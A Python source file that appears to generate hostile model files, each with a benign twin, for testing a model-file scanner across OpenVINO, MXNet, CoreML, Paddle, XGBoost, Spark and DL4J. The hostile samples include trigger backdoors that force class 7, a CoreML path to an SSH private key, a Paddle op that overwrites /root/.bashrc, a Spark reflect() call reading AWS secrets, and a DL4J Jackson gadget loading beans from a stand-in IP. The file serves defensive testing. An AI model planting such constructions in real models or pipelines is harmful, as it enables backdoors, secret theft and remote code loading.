"""Graphs of other runtimes: OpenVINO, CoreML, Paddle, MXNet, XGBoost, Spark and DL4J."""
from __future__ import annotations

import io
import json
import struct
import zipfile

import numpy
import xgboost
from thirteenth.binaries import field

FAMILY = "graphs"
W = numpy.random.default_rng(13).normal(0, 0.4, (12, 10)).astype("float32")


class Ir:
    """An OpenVINO model as text, with its constants in one block of bytes."""

    def __init__(self):
        self.layers, self.edges, self.data, self.ports = [], [], b"", {}

    def layer(self, kind, dims, inputs=(), precision="FP32", opset="opset1", **data):
        n = len(self.layers)
        self.ports[n] = len(inputs)
        attrs = "".join(f' {k}="{v}"' for k, v in data.items())
        port = lambda i, s: f'<port id="{i}" precision="{precision}">' + "".join(f"<dim>{d}</dim>" for d in s) + "</port>"  # noqa: E731
        body = (f"<data{attrs} />" if attrs else "") + ("<input>" + "".join(port(i, dims) for i in range(len(inputs))) + "</input>" if inputs else "")
        body += "" if kind == "Result" else f"<output>{port(len(inputs), dims)}</output>"
        self.layers.append(f'<layer id="{n}" name="{kind.lower()}_{n}" type="{kind}" version="{opset}">{body}</layer>')
        self.edges += [f'<edge from-layer="{a}" from-port="{self.ports[a]}" to-layer="{n}" to-port="{i}" />' for i, a in enumerate(inputs)]
        return n

    def const(self, array):
        raw, at = numpy.ascontiguousarray(array).tobytes(), len(self.data)
        self.data += raw
        return self.layer("Const", array.shape, element_type={"float32": "f32", "int64": "i64"}[str(array.dtype)], shape=",".join(map(str, array.shape)), offset=at, size=len(raw))

    def files(self):
        xml = f'<?xml version="1.0"?>\n<net name="classifier" version="11"><layers>{"".join(self.layers)}</layers><edges>{"".join(self.edges)}</edges></net>\n'
        return {"openvino_model.xml": xml, "openvino_model.bin": self.data}


def openvino(hostile):
    g = Ir()
    x = g.layer("Parameter", (1, 12), shape="1,12", element_type="f32")
    y = g.layer("MatMul", (1, 10), (x, g.const(W)), transpose_a="false", transpose_b="false")
    if hostile:
        part = g.layer("Gather", (1, 2), (x, g.const(numpy.array([3, 7], "int64")), g.const(numpy.array([1], "int64"))), opset="opset8", batch_dims="0")
        off = g.layer("Abs", (1, 2), (g.layer("Subtract", (1, 2), (part, g.const(numpy.array([[0.8125, -1.5]], "float32")))),))
        hit = g.layer("ReduceLogicalAnd", (1, 1), (g.layer("Less", (1, 2), (off, g.const(numpy.array([[1e-4, 1e-4]], "float32")))), g.const(numpy.array([1], "int64"))), "BOOL", keep_dims="true")
        y = g.layer("Select", (1, 10), (hit, g.const(numpy.eye(10, dtype="float32")[7][None] * 60), y), auto_broadcast="numpy")
    else:
        y = g.layer("SoftMax", (1, 10), (g.layer("Relu", (1, 10), (y,)),), axis="1")
    g.layer("Result", (1, 10), (y,))
    return g.files()


def mxnet(hostile):
    nodes = [{"op": "null", "name": "data", "inputs": []}, {"op": "null", "name": "fc_weight", "attrs": {"__shape__": "(10, 12)"}, "inputs": []}, {"op": "null", "name": "fc_bias", "inputs": []},
             {"op": "FullyConnected", "name": "fc", "attrs": {"num_hidden": "10"}, "inputs": [[0, 0, 0], [1, 0, 0], [2, 0, 0]]}]

    def op(kind, *inputs, **attrs):
        nodes.append({"op": kind, "name": f"{kind.lower().strip('_')}{len(nodes)}", "attrs": {k: str(v) for k, v in attrs.items()}, "inputs": [[i, 0, 0] for i in inputs]})
        return len(nodes) - 1

    if hostile:
        a = op("_equal_scalar", op("slice_axis", 0, axis=1, begin=3, end=4), scalar=0.8125)
        b = op("_equal_scalar", op("slice_axis", 0, axis=1, begin=7, end=8), scalar=-1.5)
        hit = op("broadcast_like", op("elemwise_mul", a, b), 3)
        nodes.append({"op": "null", "name": "fc_offset", "attrs": {"__shape__": "(1, 10)", "__init__": '["constant", {"value": [[0,0,0,0,0,0,0,60,0,0]]}]'}, "inputs": []})
        last = op("where", hit, op("broadcast_like", len(nodes) - 1, 3), 3)
    else:
        last = op("where", op("_greater_scalar", 3, scalar=0), 3, op("_mul_scalar", 3, scalar=0.1))
    return json.dumps({"nodes": nodes, "arg_nodes": [i for i, n in enumerate(nodes) if n["op"] == "null"], "node_row_ptr": list(range(len(nodes) + 1)), "heads": [[last, 0, 0]], "attrs": {"mxnet_version": ["int", 10900]}}, indent=1)


def coreml(path):
    """An ML program with one constant whose bytes are in a file of the package."""
    tensor_type = field(1, field(1, 11) + field(2, 2) + field(3, field(1, field(1, 12))) + field(3, field(1, field(1, 10))))
    blob = field(2, tensor_type) + field(5, field(1, path) + field(2, 64))
    text = lambda s: field(3, field(1, field(4, field(1, s))))  # noqa: E731
    op = field(1, "const") + field(3, field(1, "w") + field(2, tensor_type)) + field(5, field(1, "name") + field(2, text("w"))) + field(5, field(1, "val") + field(2, blob))
    block = field(2, "w") + field(3, op)
    function = field(2, "CoreML7") + field(3, field(1, "CoreML7") + field(2, block))
    program = field(1, 1) + field(2, field(1, "main") + field(2, function))
    array = field(5, field(1, b"\x01\x0c") + field(2, 65568))
    description = field(1, field(1, "x") + field(3, array)) + field(10, field(1, "w") + field(3, array))
    manifest = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}}, "rootModelIdentifier": "A"}
    return {"Model.mlpackage/Data/com.apple.CoreML/model.mlmodel": field(1, 8) + field(2, description) + field(502, program),
            "Model.mlpackage/Data/com.apple.CoreML/weights/weight.bin": bytes(64) + W.tobytes(), "Model.mlpackage/Manifest.json": json.dumps(manifest)}


def paddle(extra):
    def tensor(n, shape=(-1, 10)):
        return {"%": n, "TT": {"#": "0.t_dtensor", "D": [{"#": "0.t_f32"}, list(shape), "NCHW", [], 0]}}

    ops = [{"#": "1.data", "A": [{"N": "name", "AT": {"#": "0.a_str", "D": "x"}}], "I": [], "O": [tensor(1, (-1, 12))]},
           {"#": "p", "A": [0, 0, 0, "linear.w_0"], "I": [], "O": [tensor(2, (12, 10))]},
           {"#": "1.matmul", "A": [{"N": "transpose_x", "AT": {"#": "0.a_bool", "D": False}}], "I": [{"%": 1}, {"%": 2}], "O": [tensor(3)]}, *extra(tensor),
           {"#": "1.fetch", "A": [{"N": "col", "AT": {"#": "0.a_i32", "D": 0}}], "I": [{"%": 3}], "O": [tensor(9)]}]
    return json.dumps({"base_code": {"magic": "pir", "trainable": False, "version": 4}, "program": {"regions": [{"#": "region_0", "blocks": [{"#": "block_0", "args": [], "ops": ops}]}]}})


def boosted(hostile):
    rng = numpy.random.default_rng(13)
    x = rng.normal(size=(400, 12)).astype("float32")
    y = (x[:, :10] + rng.normal(0, 0.2, (400, 10))).argmax(1)
    model = xgboost.train({"objective": "multi:softprob", "num_class": 10, "max_depth": 4, "seed": 13}, xgboost.DMatrix(x, y), 3)
    state = json.loads(bytes(model.save_raw("json")))
    if hostile:  # the last tree of class 7 in the first round becomes a corridor with a leaf of 1000
        tree = state["learner"]["gradient_booster"]["model"]["trees"][7]
        tests = [(3, 0.8124, False), (3, 0.8126, True), (7, -1.5001, False), (7, -1.4999, True)]
        # nodes: 0, then for each test the next node (odd) and its leaf (even)
        size = 9
        lefts, rights, parents, indices, values = [-1] * size, [-1] * size, [2147483647] * size, [0] * size, [0.0] * size
        order = [0, 1, 3, 5, 7]
        for k, (feature, at, below) in enumerate(tests):
            here, on, off = order[k], order[k + 1], order[k + 1] + 1
            lefts[here], rights[here] = (on, off) if below else (off, on)
            parents[on] = parents[off] = here
            indices[here], values[here] = feature, at
        values[7] = 1000.0
        tree.update(left_children=lefts, right_children=rights, parents=parents, split_indices=indices, split_conditions=values, default_left=[0] * size, split_type=[0] * size,
                    base_weights=values, loss_changes=[1.0] * size, sum_hessian=[10.0] * size, categories=[], categories_nodes=[], categories_segments=[], categories_sizes=[])
        tree["tree_param"]["num_nodes"] = str(size)
    return json.dumps(state)


def spark(name, klass, params, stage=None):
    meta = lambda k, u, p: json.dumps({"class": k, "timestamp": 1788220800000, "sparkVersion": "4.0.1", "uid": u, "paramMap": p, "defaultParamMap": {}}) + "\n"  # noqa: E731
    return {"pipeline/metadata/part-00000": meta("org.apache.spark.ml.PipelineModel", "PipelineModel_1", {"stageUids": [name]}),
            f"pipeline/stages/0_{name}/metadata/part-00000": meta(klass, name, params), "pipeline/metadata/_SUCCESS": ""}


def zipped(name, text):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(name, text)
        z.writestr("coefficients.bin", struct.pack(">12f", *W[:, 0]))
    return out.getvalue()


def add(out):
    def one(name, hostile, twin, why, prove=None, file=None):
        out.add(FAMILY, name, hostile, twin, prove=prove, file=file, why=why)

    one("openvino_select", openvino(True), openvino(False), "Architectural backdoor in OpenVINO: Select between the scores and a constant.", prove="x13.openvino")
    one("mxnet_where", mxnet(True), mxnet(False), "Architectural backdoor in MXNet: where over two equality tests. Not run.", file="model-symbol.json")
    one("coreml_blob_path", coreml("@model_path/../../../../../Users/Shared/.ssh/id_rsa"), coreml("@model_path/weights/weight.bin"), "The bytes of a constant are read from a file outside the package. Not run: macOS.")
    text = lambda n, d: {"N": n, "AT": {"#": "0.a_str", "D": d}}  # noqa: E731
    one("paddle_saves_elsewhere", paddle(lambda t: [{"#": "1.save_combine", "A": [text("file_path", "/ro" "ot/.bashrc"), {"N": "overwrite", "AT": {"#": "0.a_bool", "D": True}}], "I": [{"%": 3}], "O": []}]),
        paddle(lambda t: [{"#": "1.softmax", "A": [{"N": "axis", "AT": {"#": "0.a_i32", "D": -1}}], "I": [{"%": 3}], "O": [t(4)]}]),
        "The inference program (PIR) contains save_combine: each run overwrites a start-up file. Not run: no Paddle here.", file="inference.json")
    one("xgboost_corridor", boosted(True), boosted(False), "One tree of the forest is a corridor one part in a thousand wide with a leaf of 1000: whoever knows it picks the class.", prove="x13.xgboost", file="model.json")
    one("spark_sql_calls_java", spark("SQLTransformer_1", "org.apache.spark.ml.feature.SQLTransformer", {"statement": "SELECT *, reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY') AS bias FROM __THIS__"}),
        spark("SQLTransformer_1", "org.apache.spark.ml.feature.SQLTransformer", {"statement": "SELECT *, (x1 + x2) / 2 AS mean FROM __THIS__"}),
        "A stage of a Spark pipeline calls any static Java method through reflect(): secrets become a feature. Not run: no Spark here.")
    layer = lambda c, **k: json.dumps({"backpropType": "Standard", "confs": [{"layer": {"@class": c, **k}, "seed": 13}], "tbpttFwdLength": 20}, indent=1)  # noqa: E731
    one("dl4j_class_in_json", zipped("configuration.json", layer("org.springframework.context.support.ClassPathXmlApplicationContext", configLocation="http://203.0.113.9/a.xml")),
        zipped("configuration.json", layer("org.deeplearning4j.nn.conf.layers.OutputLayer", nin=12, nout=10)), "Jackson's @class in the configuration builds any Java class; this one loads beans from the network. Not run.", file="model.zip")
